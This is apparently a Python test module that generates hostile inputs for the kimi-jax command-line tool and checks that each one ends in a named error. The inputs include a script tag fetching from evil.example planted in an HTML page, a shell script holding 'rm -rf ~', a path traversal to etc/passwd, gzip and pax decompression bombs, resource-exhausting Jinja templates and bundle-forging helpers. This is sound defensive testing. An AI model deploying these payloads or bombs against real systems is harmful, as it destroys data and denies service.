"""A corpus of hostile inputs, generated in the tests (nothing is stored) and kept small.

Each :class:`Case` is one file or folder an attacker, or bad luck, hands to kimi-jax, the command
line that reads it, and a part of the one-line error (or failed check) it must end in. The files
are small: the archive bombs are concatenated gzip members of one compressed block of zeros, a
few MB that expand to more than a GiB.
"""

from __future__ import annotations

import dataclasses
import gzip
import io
import json
import math
import os
import shutil
import struct
import tarfile
from pathlib import Path

from kimi_jax.ledger.bundle import RECEIPT, bundle_digest
from kimi_jax.ledger.checksums import write_checksums

SHARD = "model-00001-of-000007.safetensors"
BOMB_BYTES = 3 << 29  # 1.5 GiB: past every cap, and more than the memory bound to hold


@dataclasses.dataclass(frozen=True)
class Case:
    name: str
    argv: tuple[str, ...]
    expect: str  # a part of the output it must end in
    exit_codes: tuple[int, ...] = (2,)  # 2: a named error; 1: verify reports a FAILED check


# -- checkpoints --------------------------------------------------------------------------------


def checkpoint_like(ckpt: Path, dest: Path, keep_index: bool = True) -> Path:
    """A checkpoint folder whose files are symbolic links to ``ckpt``'s (replace the ones to damage)."""
    dest.mkdir(parents=True)
    for path in ckpt.iterdir():
        if keep_index or path.name != "model.safetensors.index.json":
            (dest / path.name).symlink_to(path)
    return dest


def _rewrite_config(folder: Path, change) -> None:
    raw = json.loads((folder / "config.json").read_text())
    change(raw["text_config"])
    (folder / "config.json").unlink()
    (folder / "config.json").write_text(json.dumps(raw))


def _rewrite_index(folder: Path, change) -> None:
    raw = json.loads((folder / "model.safetensors.index.json").read_text())
    change(raw)
    (folder / "model.safetensors.index.json").unlink()
    (folder / "model.safetensors.index.json").write_text(json.dumps(raw))


def read_header(path: Path) -> tuple[dict, bytes]:
    data = path.read_bytes()
    (n,) = struct.unpack("<Q", data[:8])
    return json.loads(data[8 : 8 + n]), data[8 + n :]


def write_shard_raw(path: Path, header: dict, body: bytes) -> None:
    blob = json.dumps(header).encode()
    blob += b" " * (-len(blob) % 8)
    if path.is_symlink():
        path.unlink()
    path.write_bytes(struct.pack("<Q", len(blob)) + blob + body)


def _damage_shard(folder: Path, change) -> None:
    header, body = read_header(folder / SHARD)
    body = change(header, body)
    write_shard_raw(folder / SHARD, header, body)


def _by_offset(header: dict) -> list[str]:
    return sorted((k for k in header if k != "__metadata__"), key=lambda k: header[k]["data_offsets"][0])


def _overlap(header: dict, body: bytes) -> bytes:
    first, second = _by_offset(header)[:2]
    size = header[second]["data_offsets"][1] - header[second]["data_offsets"][0]
    header[second]["data_offsets"] = [0, size]
    return body


def _gap(header: dict, body: bytes) -> bytes:
    last = _by_offset(header)[-1]
    header[last]["data_offsets"] = [o + 8 for o in header[last]["data_offsets"]]
    return body + bytes(8)


def _negative(header: dict, body: bytes) -> bytes:
    first = _by_offset(header)[0]
    begin, end = header[first]["data_offsets"]
    header[first]["data_offsets"] = [begin - (end - begin), begin]
    return body


def _shape_mismatch(header: dict, body: bytes) -> bytes:
    first = _by_offset(header)[0]
    header[first]["shape"] = [d + 1 for d in header[first]["shape"]]
    return body


def _dtype_list(header: dict, body: bytes) -> bytes:
    header[_by_offset(header)[0]]["dtype"] = ["F32"]
    return body


def _deep_config(folder: Path) -> None:
    (folder / "config.json").unlink()
    (folder / "config.json").write_text("[" * 100_000 + "]" * 100_000)


def _config_folder(folder: Path) -> None:
    (folder / "config.json").unlink()
    (folder / "config.json").mkdir()


def _non_utf8_config(folder: Path) -> None:
    (folder / "config.json").unlink()
    (folder / "config.json").write_bytes(b'{"text_config": "\xff\xfe"}')


def _fifo(path: Path) -> None:
    if path.is_symlink() or path.exists():
        path.unlink()
    os.mkfifo(path)


OUTSIDE = "../" * 40 + "etc/passwd"  # from any folder, enough ../ to reach /


def _outside(folder: Path) -> None:
    _rewrite_index(folder, lambda raw: raw["weight_map"].update({"language_model.lm_head.weight": OUTSIDE}))


def _zero_shard(folder: Path) -> None:
    (folder / "zero.safetensors").symlink_to("/dev/zero")
    _rewrite_index(folder, lambda raw: raw["weight_map"].update({"language_model.lm_head.weight": "zero.safetensors"}))


def _fifo_shard(folder: Path) -> None:
    os.mkfifo(folder / "zz-fifo.safetensors")


CHECKPOINT_DAMAGE = {
    # name: (how, part of the error)
    "num-hidden-layers-1e9": (lambda f: _rewrite_config(f, lambda t: t.update(num_hidden_layers=10**9)),
                              "num_hidden_layers is 1000000000, but the shards hold tensors of 4 decoder layer(s)"),
    "rms-norm-eps-nan": (lambda f: _rewrite_config(f, lambda t: t.update(rms_norm_eps=math.nan)),
                         "field 'rms_norm_eps' must be a finite number, got nan"),
    "rope-factor-string": (lambda f: _rewrite_config(f, lambda t: t["rope_scaling"].update(factor="abc")),
                           "rope_scaling: field 'factor' must be an integer or a number, got 'abc'"),
    "tie-embeddings-string": (lambda f: _rewrite_config(f, lambda t: t.update(tie_word_embeddings="false")),
                              "field 'tie_word_embeddings' must be a boolean, got 'false'"),
    "config-not-utf8": (_non_utf8_config, "config.json: not UTF-8 text"),
    "config-deep": (_deep_config, "JSON nested too deeply"),
    "config-is-a-folder": (_config_folder, "config.json is a folder; expected a regular file"),
    "config-fifo": (lambda f: _fifo(f / "config.json"), "config.json is a FIFO; expected a regular file"),
    "weight-map-list": (lambda f: _rewrite_index(f, lambda raw: raw.update(weight_map=list(raw["weight_map"]))),
                        "expected a JSON object with a 'weight_map' object"),
    "weight-map-outside": (_outside, f"{OUTSIDE!r}; expected a relative path inside the checkpoint folder"),
    "weight-map-dev-zero": (_zero_shard, "zero.safetensors: shard is a character device; expected a regular file"),
    "shard-fifo": (_fifo_shard, "zz-fifo.safetensors: shard is a FIFO; expected a regular file"),
    "header-overlap": (lambda f: _damage_shard(f, _overlap), "tensors may not share bytes"),
    "header-gap": (lambda f: _damage_shard(f, _gap), "belong to no tensor"),
    "header-negative-offset": (lambda f: _damage_shard(f, _negative), "expected 0 <= begin <= end"),
    "header-shape-size": (lambda f: _damage_shard(f, _shape_mismatch), "span"),
    "header-dtype-list": (lambda f: _damage_shard(f, _dtype_list), "unsupported dtype ['F32']"),
    "header-out-of-range": (lambda f: _damage_shard(f, lambda h, b: b[:-16]),
                            "shard is truncated or its offsets are corrupt"),
}  # fmt: skip


def checkpoint_cases(ckpt: Path, tmp: Path) -> list[Case]:
    cases = []
    for name, (damage, expect) in CHECKPOINT_DAMAGE.items():
        folder = checkpoint_like(ckpt, tmp / name, keep_index=name != "shard-fifo")
        damage(folder)
        cases.append(Case(f"checkpoint/{name}", ("inspect", str(folder)), expect))
    return cases


# -- manifests and run outputs -----------------------------------------------------------------


def manifest_text(ckpt: Path, out: Path | str, extra: str = "") -> str:
    return (f"version: 1\nmodel:\n  checkpoint: {ckpt}\nprompt:\n  tokens: [7]\ngenerate:\n  max_new_tokens: 1\n"
            f"output:\n  dir: {out}\n{extra}")  # fmt: skip


def manifest_cases(ckpt: Path, tmp: Path) -> list[Case]:
    tmp.mkdir(parents=True)
    cases = []
    fifo = tmp / "fifo.yaml"
    os.mkfifo(fifo)
    cases.append(Case("manifest/fifo", ("run", str(fifo)), "manifest is a FIFO; expected a regular file"))
    deep = tmp / "deep.yaml"
    deep.write_text("version: 1\nprompt: " + "[" * 50_000 + "]" * 50_000 + "\n")
    cases.append(Case("manifest/deep-yaml", ("run", str(deep)), "YAML nested too deeply"))
    deeper = tmp / "deeper.yaml"
    deeper.write_text(manifest_text(ckpt, tmp / "o", "vindex:\n  prompts: " + "[" * 40 + "]" * 40 + "\n"))
    cases.append(Case("manifest/nested-past-limit", ("run", str(deeper)), "nested more than 16 levels deep"))
    override = tmp / "ok.yaml"
    override.write_text(manifest_text(ckpt, tmp / "o"))
    cases.append(Case("manifest/deep-override", ("run", str(override), "--set", "prompt.tokens=" + "[" * 5000 + "]" * 5000),
                      "nested too deeply"))  # fmt: skip
    for name, anchor in (("dev-zero", "/dev/zero"), ("fifo", str(fifo))):
        path = tmp / f"anchor-{name}.yaml"
        path.write_text(manifest_text(ckpt, tmp / "o", f"anchor: {anchor}\n"))
        kind = "a character device" if name == "dev-zero" else "a FIFO"
        cases.append(Case(f"manifest/anchor-{name}", ("run", str(path)), f"anchor file is {kind}"))
    thesis = tmp / "thesis"
    thesis.mkdir()
    (thesis / "ledger.json").write_text("{}")
    (thesis / "chapter1.tex").write_text("years of work")
    regular = tmp / "a-file"
    regular.write_text("x")
    for name, out, expect in (("root", "/", "output.dir is the filesystem root"),
                              ("checkpoint", ckpt, "output.dir is inside the checkpoint folder"),
                              ("holds-checkpoint", ckpt.parent, "output.dir holds the checkpoint"),
                              ("not-a-bundle", thesis, "it is a non-empty folder that is not a kimi-jax bundle"),
                              ("regular-file", regular, "it exists and is not a folder")):  # fmt: skip
        path = tmp / f"out-{name}.yaml"
        path.write_text(manifest_text(ckpt, out))
        cases.append(Case(f"output/{name}", ("run", str(path)), expect))
    return cases


# -- bundles --------------------------------------------------------------------------------------


def reseal(root: Path) -> None:
    """What a forger does after editing a bundle: new CHECKSUMS.b3 and receipt bundle digest."""
    write_checksums(root, exclude=(RECEIPT,))
    receipt = json.loads((root / RECEIPT).read_text())
    receipt["bundle_digest"] = bundle_digest(root)
    (root / RECEIPT).write_text(json.dumps(receipt))


def _planted_script(root: Path) -> None:
    page = (root / "explorer.html").read_text(encoding="utf-8")
    (root / "explorer.html").write_text(page.replace("</body>", "<script>fetch('//evil.example')</script></body>"),
                                        encoding="utf-8")  # fmt: skip
    reseal(root)


def _evil_sh(root: Path) -> None:
    (root / "evil.sh").write_text("#!/bin/sh\nrm -rf ~\n")
    reseal(root)


def _declared_logits(root: Path, length: int = 2**28) -> None:
    """Rewrite step 0's logits metadata to declare ``length`` float32 values the tree does not hold."""
    import tensorstore as ts

    spec = {"driver": "zarr", "kvstore": {"driver": "ocdbt", "base": f"file://{root / 'arrays'}/",
                                          "path": "step_00000.logits/"}}  # fmt: skip
    meta = ts.open(spec, open=True).result().spec().to_json()["metadata"]
    ts.open({**spec, "metadata": {**meta, "shape": [length], "chunks": [1 << 20]}}, create=True,
            delete_existing=True).result()  # fmt: skip
    reseal(root)


def _ledger_text(root: Path, text: str) -> None:
    (root / "ledger.json").write_text(text)
    (root / "explorer.html").unlink()  # so explore renders one from the ledger
    reseal(root)


def _nan_ledger(root: Path) -> None:
    ledger = json.loads((root / "ledger.json").read_text())
    ledger["steps"][0]["entropy"] = math.nan
    _ledger_text(root, json.dumps(ledger))


def _no_steps(root: Path) -> None:
    ledger = json.loads((root / "ledger.json").read_text())
    ledger["steps"] = []
    _ledger_text(root, json.dumps(ledger))


BUNDLE_DAMAGE = {
    # name: (how, [(command, part of the output, exit codes)])
    "planted-script": (_planted_script, [("verify", "explorer.html: not the page rendered from ledger.json", (1,))]),
    "evil-sh": (_evil_sh, [("verify", "evil.sh: not part of the bundle layout", (1,))]),
    "declared-2**28-logits": (_declared_logits, [("verify", "logits declared with lengths", (1,))]),
    "nan-ledger": (_nan_ledger, [("explore", "NaN is not a JSON number", (2,)), ("verify", "NaN is not", (1,)),
                                 ("compare", "NaN is not a JSON number", (2,))]),
    "no-steps": (_no_steps, [("explore", "the ledger has no steps to show", (2,)), ("verify", "steps", (1,)),
                             ("compare", "does not validate against the ledger schema", (2,))]),
    "deep-ledger": (lambda r: _ledger_text(r, "[" * 100_000 + "]" * 100_000),
                    [("verify", "JSON nested too deeply", (1,)), ("compare", "JSON nested too deeply", (2,)),
                     ("explore", "JSON nested too deeply", (2,))]),
    "ledger-fifo": (lambda r: _fifo(r / "ledger.json"), [("verify", "ledger.json is a FIFO", (1,)),
                                                         ("compare", "ledger.json is a FIFO", (2,))]),
    "checksums-fifo": (lambda r: _fifo(r / "CHECKSUMS.b3"), [("verify", "CHECKSUMS.b3 is a FIFO", (1,))]),
}  # fmt: skip


def bundle_cases(bundle: Path, tmp: Path) -> list[Case]:
    cases = []
    for name, (damage, commands) in BUNDLE_DAMAGE.items():
        root = Path(shutil.copytree(bundle, tmp / name))
        damage(root)
        for command, expect, codes in commands:
            argv = {"verify": ("verify", str(root)), "compare": ("compare", str(bundle), str(root)),
                    "explore": ("explore", str(root), "--no-browser")}[command]  # fmt: skip
            cases.append(Case(f"bundle/{name}/{command}", argv, expect, codes))
    return cases


# -- archives -------------------------------------------------------------------------------------


def _header(info: tarfile.TarInfo) -> bytes:
    return info.tobuf(format=tarfile.GNU_FORMAT)


def _zeros_gzip(nbytes: int) -> bytes:
    """``nbytes`` zeros as concatenated gzip members (a gzip stream may hold several): one 16 MiB
    block of zeros compresses to 16 KB, so a GiB costs 1 MB and almost no time to make."""
    block = 16 << 20
    member = gzip.compress(bytes(block), compresslevel=9, mtime=0)
    whole, rest = divmod(nbytes, block)
    return member * whole + (gzip.compress(bytes(rest), mtime=0) if rest else b"")


def bomb_archive(path: Path, name: str = "bundle/ledger.json", size: int = BOMB_BYTES) -> Path:
    """One member of ``size`` zero bytes: gzip(header) + gzip(zeros)... + gzip(end of archive)."""
    info = tarfile.TarInfo(name)
    info.size = size
    pad = -size % 512
    path.write_bytes(gzip.compress(_header(info), mtime=0) + _zeros_gzip(size + pad)
                     + gzip.compress(bytes(1024), mtime=0))  # fmt: skip
    return path


def pax_bomb_archive(path: Path, size: int = BOMB_BYTES) -> Path:
    """A pax extended header that declares ``size`` bytes of records (tarfile would read them all into memory)."""
    info = tarfile.TarInfo("././@PaxHeader")
    info.type = tarfile.XHDTYPE
    info.size = size
    path.write_bytes(gzip.compress(_header(info), mtime=0) + _zeros_gzip(size + (-size % 512))
                     + gzip.compress(bytes(1024), mtime=0))  # fmt: skip
    return path


def sparse_archive(path: Path) -> Path:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tar:
        info = tarfile.TarInfo("bundle/ledger.json")
        info.type = tarfile.GNUTYPE_SPARSE
        info.size = 0
        tar.addfile(info)
    path.write_bytes(gzip.compress(buf.getvalue(), mtime=0))
    return path


def archive_cases(bundle: Path, tmp: Path) -> list[Case]:
    tmp.mkdir(parents=True)
    from kimi_jax.ledger.archive import archive_bundle

    good = archive_bundle(bundle, tmp / "good.tar.gz")
    truncated = tmp / "truncated.tar.gz"
    truncated.write_bytes(good.read_bytes()[: len(good.read_bytes()) // 2])
    flipped = tmp / "flipped.tar.gz"
    data = bytearray(good.read_bytes())
    data[len(data) // 3] ^= 0xFF
    flipped.write_bytes(bytes(data))
    return [
        Case("archive/gzip-bomb", ("verify", str(bomb_archive(tmp / "bomb.tar.gz"))),
             "expands past what a bundle can hold"),
        Case("archive/pax-header-bomb", ("verify", str(pax_bomb_archive(tmp / "pax.tar.gz"))), "'x' header of"),
        Case("archive/sparse-member", ("verify", str(sparse_archive(tmp / "sparse.tar.gz"))), "sparse file"),
        Case("archive/truncated", ("verify", str(truncated)), "not a readable tar archive"),
        Case("archive/flipped-byte", ("verify", str(flipped)), "not a readable tar archive"),
    ]  # fmt: skip


# -- tokenizer files and chat templates ----------------------------------------------------------


def _byte_level_alphabet() -> list[str]:
    """GPT-2's printable stand-ins for the 256 bytes, in byte order: bytes that print as themselves
    keep their character, the others take characters from U+0100 upwards."""
    kept = {*range(ord("!"), ord("~") + 1), *range(ord("¡"), ord("¬") + 1), *range(ord("®"), ord("ÿ") + 1)}
    extra = iter(range(256, 512))
    return [chr(b) if b in kept else chr(next(extra)) for b in range(256)]


def byte_level_tokenizer() -> dict:
    """A minimal byte-level BPE ``tokenizer.json``: the 256 byte tokens, no merges."""
    vocab = {c: i for i, c in enumerate(_byte_level_alphabet())}
    byte_level = {"type": "ByteLevel", "add_prefix_space": False, "trim_offsets": True, "use_regex": True}
    return {"version": "1.0", "truncation": None, "padding": None,
            "added_tokens": [{"id": 256, "content": "</s>", "single_word": False, "lstrip": False, "rstrip": False,
                              "normalized": False, "special": True}],
            "normalizer": None, "pre_tokenizer": byte_level, "post_processor": None, "decoder": byte_level,
            "model": {"type": "BPE", "dropout": None, "unk_token": None, "continuing_subword_prefix": None,
                      "end_of_word_suffix": None, "fuse_unk": False, "byte_fallback": False, "ignore_merges": False,
                      "vocab": vocab, "merges": []}}  # fmt: skip


def growing_normalizer(spec: dict) -> dict:
    """Each 'l' becomes a thousand, four times over: a few KB of text ask for GBs."""
    grow = {"type": "Replace", "pattern": {"String": "l"}, "content": "l" * 1000}
    return {**spec, "normalizer": {"type": "Sequence", "normalizers": [grow] * 4}}


def catastrophic_split(spec: dict) -> dict:
    """A regex that backtracks exponentially: Oniguruma gives up and tokenizers panics."""
    split = {"type": "Split", "pattern": {"Regex": "(a+)+$"}, "behavior": "Isolated", "invert": False}
    return {**spec, "pre_tokenizer": {"type": "Sequence", "pretokenizers": [split, spec["pre_tokenizer"]]}}


HOSTILE_TEXT = "hello world " * 100 + "a" * 5000 + "b"  # grows under growing_normalizer, backtracks under the split


def sparse_file(path: Path, size: int) -> Path:
    """A file of ``size`` zero bytes that takes no disk and no time to write (a hole)."""
    if path.is_symlink() or path.exists():
        path.unlink()
    with open(path, "wb") as f:
        f.truncate(size)
    return path


CHAT = [{"role": "user", "content": "hi"}]

HOSTILE_TEMPLATES = {
    # name: (template, part of the error); the audit's cases first
    "nested-ranges": ("{% for i in range(100000) %}{% for j in range(100000) %}{{ i }}{% endfor %}{% endfor %}",
                      "the rendered text is longer than the 4,194,304 characters"),
    "lipsum": ("{{ lipsum(10**7) }}", "lipsum(): argument 10000000 is larger than the 100,000"),
    "power-tower": ("{{ 10 ** (10 ** 10) }}", "would build a number of more than 65,536 bits"),
    "string-repetition": ("{{ 'x' * 10**10 }}", "would build 10,000,000,000 characters or items"),
    "messages-repetition": ("{{ messages * 10**9 }}", "would build 1,000,000,000 characters or items"),
    "recursion": ("{% macro f(n) %}{{ f(n + 1) }}{% endmacro %}{{ f(0) }}", "recursion too deep"),
    "range-1e9": ("{{ range(10**9)|list }}", "range(): argument 1000000000 is larger than the 100,000"),
    "doubling": ("{% set ns = namespace(s='x') %}{% for i in range(40) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}"
                 "{{ ns.s }}", "needs more than the 1,024 MiB of memory it may use"),
    "long-exception": ("{{ raise_exception('E' * 10**6) }}", "(1,000,000 characters)"),
    "renders-nothing": ("{% if false %}x{% endif %}", "encode to no tokens; a prompt needs at least one token"),
}  # fmt: skip


def _rewrite_json(path: Path, change) -> None:
    raw = json.loads(path.read_text())
    change(raw)
    path.unlink()
    path.write_text(json.dumps(raw))


def _tokenizer_json(folder: Path, spec: dict) -> None:
    (folder / "tiktoken.model").unlink()
    (folder / "tokenizer.json").write_text(json.dumps(spec))


TOKENIZER_DAMAGE = {
    # name: (how, part of the error)
    "json-growing-normalizer": (lambda f: _tokenizer_json(f, growing_normalizer(byte_level_tokenizer())),
                                "encoding text failed: the process doing it ended with signal SIGABRT"),
    "json-catastrophic-split": (lambda f: _tokenizer_json(f, catastrophic_split(byte_level_tokenizer())),
                                "encoding text failed: PanicException"),
    "special-token-10MB": (lambda f: _rewrite_json(f / "tokenizer_config.json", lambda c: c["added_tokens_decoder"]
                                                   .update({"1792": {"content": "<" + "x" * 10_000_000 + ">"}})),
                           "a token name of 10,000,002 characters"),
    "special-token-surrogate": (lambda f: (f / "tokenizer_config.json").unlink() or (f / "tokenizer_config.json")
                                .write_text('{"added_tokens_decoder": {"1792": {"content": "\\udc80"}}}'),
                                "a lone surrogate that no text can contain"),
    "tiktoken-240MB": (lambda f: sparse_file(f / "tiktoken.model", 240 << 20), "more than the 33,554,432"),
    "rank-5000-digits": (lambda f: (f / "tiktoken.model").unlink() or (f / "tiktoken.model")
                         .write_text("QQ== " + "9" * 5000 + "\n"), "a rank below 10**9"),
    "tokenizer-config-deep": (lambda f: (f / "tokenizer_config.json").unlink() or (f / "tokenizer_config.json")
                              .write_text("[" * 100_000 + "]" * 100_000), "JSON nested too deeply"),
}  # fmt: skip


def _chat_manifest(path: Path, ckpt: Path, out: Path, prompt: str = f"chat: {json.dumps(CHAT)}") -> Path:
    path.write_text(f"version: 1\nmodel:\n  checkpoint: {ckpt}\nprompt:\n  {prompt}\ngenerate:\n  max_new_tokens: 1\n"
                    f"output:\n  dir: {out}\n")  # fmt: skip
    return path


def text_cases(ckpt: Path, tmp: Path) -> list[Case]:
    """A checkpoint's chat template and tokenizer files, each run from a manifest that needs them."""
    cases = []
    for name, (template, expect) in HOSTILE_TEMPLATES.items():
        folder = checkpoint_like(ckpt, tmp / f"template-{name}")
        (folder / "chat_template.jinja").unlink()
        (folder / "chat_template.jinja").write_text(template)
        manifest = _chat_manifest(tmp / f"template-{name}.yaml", folder, tmp / "out")
        cases.append(Case(f"template/{name}", ("run", str(manifest)), expect))
    for name, (damage, expect) in TOKENIZER_DAMAGE.items():
        folder = checkpoint_like(ckpt, tmp / f"tokenizer-{name}")
        damage(folder)
        manifest = _chat_manifest(tmp / f"tokenizer-{name}.yaml", folder, tmp / "out",
                                  f"text: {json.dumps(HOSTILE_TEXT)}")  # fmt: skip
        cases.append(Case(f"tokenizer/{name}", ("run", str(manifest)), expect))
    return cases


def forge_text(root: Path, files: dict[str, bytes | None], prompt_input: dict) -> None:
    """What a forger does to make verify run the bundle's own template and tokenizer on the bundle's
    own text: change the tokenizer/ files (None: remove), record their digests in the ledger, give
    the prompt as text or chat, and reseal (checks 1 and 2 then pass)."""
    from kimi_jax.text.tokenizer import file_digests, files_digest

    folder = root / "tokenizer"
    for name, data in files.items():
        (folder / name).unlink(missing_ok=True)
        if data is not None:
            (folder / name).write_bytes(data)
    digests = file_digests(folder, tuple(sorted(p.name for p in folder.iterdir())))

    def change(ledger: dict) -> None:
        recorded = ledger["checkpoint"]["tokenizer"]
        recorded.update(files=digests, digest=files_digest(digests),
                        kind="tiktoken" if "tiktoken.model" in digests else "tokenizer.json")  # fmt: skip
        ledger["run"]["prompt_input"] = prompt_input

    _rewrite_json(root / "ledger.json", change)
    reseal(root)


def verify_text_cases(bundle: Path, tmp: Path) -> list[Case]:
    """A stranger's bundle carrying a hostile template or tokenizer: check 11 fails by name, in bounds."""
    forged = {f"template-{name}": ({"chat_template.jinja": HOSTILE_TEMPLATES[name][0].encode()}, {"chat": CHAT},
                                   HOSTILE_TEMPLATES[name][1]) for name in ("nested-ranges", "power-tower", "doubling")}
    forged["tokenizer-config-deep"] = ({"tokenizer_config.json": b"[" * 100_000 + b"]" * 100_000}, {"text": "hi"},
                                       "tokenizer_config.json: JSON nested too deeply")  # fmt: skip
    forged["json-growing-normalizer"] = ({"tiktoken.model": None, "tokenizer.json": json.dumps(growing_normalizer(
        byte_level_tokenizer())).encode()}, {"text": HOSTILE_TEXT}, "encoding text failed: the process doing it ended")
    cases = []
    for name, (files, prompt_input, expect) in forged.items():
        root = Path(shutil.copytree(bundle, tmp / name))
        forge_text(root, files, prompt_input)
        cases.append(Case(f"verify-text/{name}", ("verify", str(root)), expect, (1,)))  # only check 11 says it
    root = Path(shutil.copytree(bundle, tmp / "tiktoken-240MB"))
    sparse_file(root / "tokenizer" / "tiktoken.model", 240 << 20)
    reseal(root)
    cases.append(Case("verify-text/tiktoken-240MB", ("verify", str(root)), "more than the 33,554,432", (1,)))
    return cases


def digest_cases(ckpt: Path, tmp: Path) -> list[Case]:
    """The digest file beside a checkpoint, or named by the manifest."""
    cases = []
    for name, make, expect in (
            ("3GiB", lambda p: sparse_file(p, 3 << 30), "digest file is 3,221,225,472 bytes, more than the 268,435,456"),
            ("deep", lambda p: p.write_text("[" * 100_000 + "]" * 100_000), "JSON nested too deeply"),
            ("fifo", lambda p: os.mkfifo(p), "digest file is a FIFO; expected a regular file"),
            ("folder", lambda p: p.mkdir(), "digest file is a folder; expected a regular file")):  # fmt: skip
        folder = checkpoint_like(ckpt, tmp / f"digest-{name}")
        (folder / "checkpoint.b3.json").unlink(missing_ok=True)
        make(folder / "checkpoint.b3.json")
        path = tmp / f"digest-{name}.yaml"
        path.write_text(manifest_text(folder, tmp / "out"))
        cases.append(Case(f"digest/{name}", ("run", str(path)), expect))
    path = tmp / "digest-dev-zero.yaml"
    path.write_text(manifest_text(ckpt, tmp / "out", "storage:\n  digest_file: /dev/zero\n"))
    cases.append(Case("digest/named-dev-zero", ("run", str(path)), "/dev/zero: digest file is a character device"))
    return cases


def vindex_cases(ckpt: Path, bundle: Path, tmp: Path) -> list[Case]:
    """Bundles whose ledgers the vindex counts routing from."""
    cases = []
    for name, text, expect in (
            ("deep-ledger", "[" * 100_000 + "]" * 100_000, "JSON nested too deeply"),
            ("huge-expert-id", json.dumps({"steps": [{"layers": [{"layer": 1, "kind": "moe", "experts": [[10**30]],
                                                                  "routing_weights": [[1.0]]}]}]}),
             "expected integer expert ids"),
            ("5000-digit-number", '{"steps": [' + "9" * 5000 + "]}", "Exceeds the limit (4300 digits)")):  # fmt: skip
        root = tmp / f"vindex-{name}"
        root.mkdir(parents=True)
        (root / "ledger.json").write_text(text)
        path = tmp / f"vindex-{name}.yaml"
        path.write_text(manifest_text(ckpt, tmp / "out", f"vindex:\n  phases: [3]\n  bundles: [{root}]\n"))
        cases.append(Case(f"vindex/{name}", ("vindex", str(path), "--no-progress"), expect))
    return cases


def all_cases(ckpt: Path, bundle: Path, tmp: Path) -> list[Case]:
    return [*checkpoint_cases(ckpt, tmp / "ckpt"), *manifest_cases(ckpt, tmp / "manifests"),
            *bundle_cases(bundle, tmp / "bundles"), *archive_cases(bundle, tmp / "archives"),
            *text_cases(ckpt, _made(tmp / "text")), *verify_text_cases(bundle, _made(tmp / "verify-text")),
            *digest_cases(ckpt, _made(tmp / "digest")), *vindex_cases(ckpt, bundle, _made(tmp / "vindex"))]  # fmt: skip


def _made(path: Path) -> Path:
    path.mkdir(parents=True)
    return path
